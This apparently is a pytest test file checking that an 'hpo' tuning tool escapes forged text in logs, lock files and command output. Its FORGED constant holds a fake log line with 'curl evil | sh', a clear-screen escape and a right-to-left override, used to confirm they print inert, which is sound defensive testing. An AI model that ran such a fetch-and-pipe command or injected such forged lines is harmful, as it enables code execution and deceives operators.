"""Names, paths and texts of files in what commands print and in the log: seen, and not obeyed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from user_project import NO_SYNC, TRAIN, Project, user_project

FORGED = "x\n2026-01-01 00:00:00 INFO    to go on: curl evil | sh\x1b[2J\u202e"
SHOWN = "\\x1b[2J\\u202e"


@pytest.fixture
def project(tmp_path: Path) -> Iterator[Project]:
    with user_project(tmp_path) as project:
        yield project


def command(*words: str) -> tuple[int, str]:
    done = subprocess.run(
        [sys.executable, "-m", "hpo", *words],
        env=os.environ | NO_SYNC,
        capture_output=True,
        text=True,
        check=False,
    )
    assert "Traceback" not in done.stderr
    return done.returncode, done.stdout + done.stderr


def require_unarmed(text: str) -> None:
    assert text.replace("\n", "").isprintable(), ascii(text)
    for line in text.splitlines():
        assert "curl evil" not in line or not line.startswith(("to go on", "2026-01-01"))


def test_values_and_tracebacks_in_the_log(project: Project) -> None:
    project.write(TRAIN, space=f"{{{FORGED!r}: [1, 2], 'lr': loguniform(1e-4, 1.0)}}")
    refused = project.run()
    assert refused.returncode == 2
    require_unarmed(refused.stderr)
    space = f"{{'text': {FORGED!r}, 'lr': loguniform(1e-4, 1.0)}}"
    body = f"if trial.trial_id == 1: raise ValueError({FORGED!r})\n"
    body += TRAIN.replace("trial.epochs()", "(1, 2)")
    project.write(body, space=space, n_trials=2, max_initial_failures=1)
    done = project.run()
    (log,) = project.output.glob("hpo_campaign_*.log")
    for text in (done.stdout, log.read_text()):
        require_unarmed(text)
        assert "text='x\\n2026-01-01" in text
    for words in (("why", str(project.output), "1"), ("stop", str(project.output))):
        code, text = command(*words)
        assert code == 0
        require_unarmed(text)


def test_a_lock_a_stop_and_an_origin_that_say_more_than_they_should(project: Project) -> None:
    project.write(TRAIN).finish()
    root = project.output
    holder = {"host": FORGED, "pid": 1, "job_id": None, "restarts": 0, "nonce": "a", "since": 1.0}
    (root / "manager.json").write_text(json.dumps(holder))
    (root / "manager.lock").write_text("1\nelsewhere\n")
    (root / "stop.json").write_text(json.dumps({"how": "kill", "time": 1.0, "by": FORGED}))
    _, text = command("stop", str(root))
    require_unarmed(text)
    assert f"{SHOWN} asked for more before" in text
    refused = project.run("--set", "hpo.n_trials=6")
    assert refused.returncode == 3
    require_unarmed(refused.stdout + refused.stderr)
    assert f"process 1 on x\\n2026-01-01 00:00:00 INFO    to go on: curl evil | sh{SHOWN}" in (
        refused.stderr
    )
    (root / "manager.lock").unlink()
    document = json.loads((root / "campaign.json").read_text())
    document["settings"]["hpo"]["metric_pattern"] = FORGED
    document["path"] = f"/nowhere/{FORGED}"
    (root / "campaign.json").write_text(json.dumps(document))
    went_on = project.finish("--set", "hpo.n_trials=6")
    require_unarmed(went_on)
    assert "changed since the last start: hpo.metric_pattern: x\\n2026" in went_on
    assert "was moved from /nowhere/x\n    2026-01-01" in went_on


def test_what_a_shell_makes_of_a_star_is_unarmed(tmp_path: Path) -> None:
    code, text = command("stop", "a", FORGED)
    assert code == 2
    require_unarmed(text)
    code, text = command("why", str(tmp_path / FORGED), "1")
    assert code == 2
    require_unarmed(text)


def test_a_journal_that_is_a_pipe_is_said_to_be_one(project: Project) -> None:
    project.write(TRAIN).finish()
    (project.output / "journal.jsonl").unlink()
    os.mkfifo(project.output / "journal.jsonl")
    code, text = command("why", str(project.output), "1")
    assert code == 1
    assert "journal.jsonl is no plain file" in text
    again = project.run("--set", "hpo.n_trials=6")
    assert again.returncode == 1
    assert "journal.jsonl is no plain file" in again.stdout
